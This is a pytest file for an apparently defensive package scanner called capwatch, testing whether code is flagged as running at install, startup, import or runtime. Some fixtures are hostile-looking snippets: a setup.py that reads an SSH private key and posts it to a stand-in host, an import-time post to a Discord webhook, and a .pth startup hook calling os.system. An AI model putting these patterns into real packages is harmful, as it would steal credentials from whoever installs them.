"""Phases through the call graph: what runs at install, startup, import, or only when called."""

from __future__ import annotations

from tests.helpers import sdist_bytes, wheel_bytes

from capwatch.engine import scan_bytes
from capwatch.model import Phase, ScanResult


def phases_of(result: ScanResult, capability: str) -> set[Phase]:
    return {c.phase for c in result.capabilities if c.id == capability}


def setup_phases(setup: str, capability: str) -> set[Phase]:
    """The phases in which an sdist whose only file is this ``setup.py`` uses ``capability``."""
    return phases_of(scan_bytes(sdist_bytes({"setup.py": setup}), "demo.tar.gz"), capability)


def test_cmdclass_method_runs_at_install() -> None:
    setup = (
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "import subprocess\nclass Post(install):\n    def run(self):\n        self.helper()\n"
        "    def helper(self):\n        subprocess.call(['true'])\n"
        "setup(name='demo', version='0.1', cmdclass={'install': Post})\n"
    )
    assert setup_phases(setup, "proc.spawn") == {Phase.INSTALL}


def test_a_command_only_a_maintainer_runs_does_not_run_at_install() -> None:
    """``sdist`` runs when the maintainer builds the source archive, not when pip installs it;
    the same class handed on as ``install`` too runs at install."""
    setup = (
        "from setuptools import setup\nfrom setuptools.command.sdist import sdist\n"
        "import subprocess\nclass Assets(sdist):\n    def run(self):\n"
        "        subprocess.call(['npm', 'run', 'build'])\n"
        "cmdclass = {'sdist': Assets}\n"
        "setup(name='demo', version='0.1', cmdclass=cmdclass)\n"
    )
    assert setup_phases(setup, "proc.spawn") == {Phase.RUNTIME}
    inline = setup.replace("cmdclass=cmdclass", "cmdclass={'sdist': Assets}")
    assert setup_phases(inline, "proc.spawn") == {Phase.RUNTIME}
    both = setup.replace("{'sdist': Assets}", "{'sdist': Assets, 'build_py': Assets}")
    assert setup_phases(both, "proc.spawn") == {Phase.INSTALL}


def test_setup_importing_package_runs_package_at_install() -> None:
    files = {
        "setup.py": "from setuptools import setup\nfrom demo import __version__\nsetup(name='demo', version=__version__)\n",
        "demo/__init__.py": "import os\n__version__ = '0.1'\nos.getenv('HOME')\n",
    }
    result = scan_bytes(sdist_bytes(files), "demo.tar.gz")
    assert Phase.INSTALL in phases_of(result, "host.env.read")


def test_function_called_at_import_vs_runtime_only() -> None:
    files = {
        "demo/__init__.py": "from .core import boot\nboot()\n",
        "demo/core.py": "import subprocess, socket\ndef boot():\n    subprocess.call(['x'])\n"
        "def later():\n    socket.socket()\n",
    }
    result = scan_bytes(sdist_bytes(files), "demo.tar.gz")
    assert phases_of(result, "proc.spawn") == {Phase.IMPORT}
    assert phases_of(result, "net.socket") == {Phase.RUNTIME}


def test_pth_file_runs_at_startup() -> None:
    files = {"demo_hook.pth": "import os; os.system('id')\n", "demo/__init__.py": ""}
    result = scan_bytes(wheel_bytes(files), "demo.whl")
    assert phases_of(result, "proc.shell") == {Phase.STARTUP}


def test_tests_and_main_guard_are_runtime() -> None:
    files = {
        "demo/__init__.py": "",
        "tests/test_x.py": "import subprocess\nsubprocess.call(['x'])\n",
        "demo/cli.py": "import os\nif __name__ == '__main__':\n    os.system('x')\n",
    }
    result = scan_bytes(sdist_bytes(files), "demo.tar.gz")
    assert phases_of(result, "proc.spawn") == {Phase.RUNTIME}
    assert phases_of(result, "proc.shell") == {Phase.RUNTIME}


def test_setup_main_guard_runs_at_install() -> None:
    setup = "import os\nfrom setuptools import setup\nif __name__ == '__main__':\n    os.system('x')\n    setup()\n"
    assert setup_phases(setup, "proc.shell") == {Phase.INSTALL}


def test_in_tree_build_backend_runs_at_install() -> None:
    files = {
        "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n",
        "_build/backend.py": "import urllib.request\nurllib.request.urlopen('https://example.invalid')\n",
    }
    result = scan_bytes(sdist_bytes(files), "demo.tar.gz")
    assert phases_of(result, "net.http.request") == {Phase.INSTALL}


def _cw105(files: dict[str, str]) -> list[tuple[str, Phase | None]]:
    result = scan_bytes(wheel_bytes(files), "demo-0.1-py3-none-any.whl")
    return [(f.severity.name, f.phase) for f in result.findings if f.rule == "CW105"]


def test_constant_read_from_another_module_at_import_is_an_import_time_clue() -> None:
    hook = "https://discord.com/api/webhooks/4455667788/AbCdEfGhIjKlMnOpQrStUvWxYz012345"
    sender = "import requests\nfrom .settings import HOOK\nrequests.post(HOOK, data='x')\n"
    files = {"demo/settings.py": f"HOOK = {hook!r}\n", "demo/__init__.py": sender}
    assert _cw105(files) == [("CRITICAL", Phase.IMPORT)]
    by_attribute = "import requests\nfrom . import settings\nrequests.post(settings.HOOK)\n"
    files["demo/__init__.py"] = by_attribute
    assert _cw105(files) == [("CRITICAL", Phase.IMPORT)]


def test_constant_method_call_reads_the_constant() -> None:
    setup = (
        "import urllib.request\nKEY = open('/home/u/.ssh/id_rsa').read()\n"
        "urllib.request.urlopen('https://x.example/k', data=KEY.encode())\n"
    )
    result = scan_bytes(sdist_bytes({"setup.py": setup}), "demo.tar.gz")
    cw107 = [f for f in result.findings if f.rule == "CW107"]
    assert cw107 and cw107[0].phase is Phase.INSTALL


def test_a_class_handed_on_by_an_install_script_runs_every_method_at_install() -> None:
    setup = (
        "from setuptools import setup\nimport subprocess\n"
        "class Post:\n    def run(self):\n        subprocess.call(['true'])\n"
        "setup(name='demo', version='0.1', cmdclass={'install': Post})\n"
    )
    assert setup_phases(setup, "proc.spawn") == {Phase.INSTALL}


def test_a_class_registered_at_import_runs_only_its_constructor() -> None:
    files = {
        "demo/__init__.py": (
            "import os, socket\nfrom registry import add\n"
            "class Provider:\n"
            "    def __init__(self):\n        os.getenv('HOME')\n"
            "    def connect(self):\n        socket.socket()\n"
            "add(Provider)\n"
        ),
    }
    result = scan_bytes(sdist_bytes(files), "demo.tar.gz")
    assert phases_of(result, "host.env.read") == {Phase.IMPORT}
    assert phases_of(result, "net.socket") == {Phase.RUNTIME}


def test_a_base_class_named_in_a_class_statement_is_not_run() -> None:
    files = {
        "demo/__init__.py": (
            "import socket\n"
            "class Base:\n    def __init__(self):\n        socket.socket()\n"
            "class Fast(Base):\n    pass\n"
        ),
    }
    result = scan_bytes(sdist_bytes(files), "demo.tar.gz")
    assert phases_of(result, "net.socket") == {Phase.RUNTIME}


def test_a_command_class_handed_on_from_a_module_setup_imports_runs_at_install() -> None:
    files = {
        "setup.py": "from setuptools import setup\nfrom build_helpers import options\nsetup(**options)\n",
        "build_helpers/__init__.py": (
            "from build_helpers.commands import Post\n"
            "options = {'name': 'demo', 'cmdclass': {'install': Post}}\n"
        ),
        "build_helpers/commands.py": (
            "import socket\nfrom setuptools.command.install import install\n"
            "class Post(install):\n    def run(self):\n        socket.socket()\n"
        ),
    }
    result = scan_bytes(sdist_bytes(files), "demo.tar.gz")
    assert phases_of(result, "net.socket") == {Phase.INSTALL}


def _import_phases(module: str) -> set[Phase]:
    files = {
        "setup.py": "from setuptools import setup\nsetup(name='demo', version='0.1')\n",
        "demo/__init__.py": module,
    }
    return phases_of(scan_bytes(sdist_bytes(files), "demo.tar.gz"), "net.socket")


_WAKERS = (
    "import os\nimport socket\n"
    "class Socketed:\n    def __init__(self):\n        self.sock = socket.socket()\n"
    "class Piped:\n    def __init__(self):\n        self.fds = os.pipe()\n"
)


def test_a_class_attribute_that_picks_a_class_runs_nothing_as_the_class_is_defined() -> None:
    """``waker = Piped if posix else Socketed`` in a class body keeps a class for the methods
    to make later; a class made in the body (``default = Socketed()``) runs there."""
    picked = _WAKERS + "class Loop:\n    waker = Piped if os.name != 'nt' else Socketed\n"
    assert _import_phases(picked) == {Phase.RUNTIME}
    assert _import_phases(picked.replace("Piped if os.name != 'nt' else Socketed", "Socketed")) == {Phase.RUNTIME}
    made = _WAKERS + "class Loop:\n    waker = Socketed()\n"
    assert _import_phases(made) == {Phase.IMPORT}


def test_a_module_constant_that_picks_a_function_runs_it_where_it_is_read() -> None:
    """``opener = a or b`` at module level is a name bound to a function: its readers run it."""
    module = (
        "import socket\n"
        "def dial():\n    return socket.create_connection(('example.org', 80))\n"
        "def offline():\n    return None\n"
        "OPEN = dial if socket.has_ipv6 else offline\n"
    )
    assert _import_phases(module) == {Phase.RUNTIME}
    assert _import_phases(module + "OPEN()\n") == {Phase.IMPORT}


def test_an_api_bound_to_a_name_is_used_where_the_name_is_read() -> None:
    """``Handle = socket.socket`` names a type (read in annotations, which run nothing); the
    socket is made at import only when the module's code calls the name."""
    alias = "import socket\nHandle = socket.socket\ndef wrap(handle: Handle) -> Handle:\n    return handle\n"
    assert _import_phases(alias) == {Phase.RUNTIME}
    assert _import_phases(alias + "LISTENER = Handle()\n") == {Phase.IMPORT}


def test_a_handler_for_a_missing_setuptools_runs_only_by_hand() -> None:
    """``try: from setuptools import setup`` / ``except ImportError:`` bootstraps setuptools;
    installers provide it, so the handler runs only when someone runs the script without it.
    A handler for another missing module still runs at install."""
    fallback = (
        "import subprocess\n"
        "try:\n    from setuptools import setup\n"
        "except ImportError:\n    subprocess.call(['python', 'bootstrap.py'])\n"
        "    from setuptools import setup\n"
        "setup(name='demo', version='0.1')\n"
    )
    assert setup_phases(fallback, "proc.spawn") == {Phase.RUNTIME}
    other = fallback.replace("from setuptools import setup\nexcept", "import numpy\nexcept")
    assert setup_phases(other, "proc.spawn") == {Phase.INSTALL}
    every_error = fallback.replace("except ImportError:", "except Exception:")
    assert setup_phases(every_error, "proc.spawn") == {Phase.INSTALL}
    with_cython = fallback.replace(
        "from setuptools import setup\nexcept", "from setuptools import setup\n    import Cython\nexcept"
    )
    assert setup_phases(with_cython, "proc.spawn") == {Phase.INSTALL}
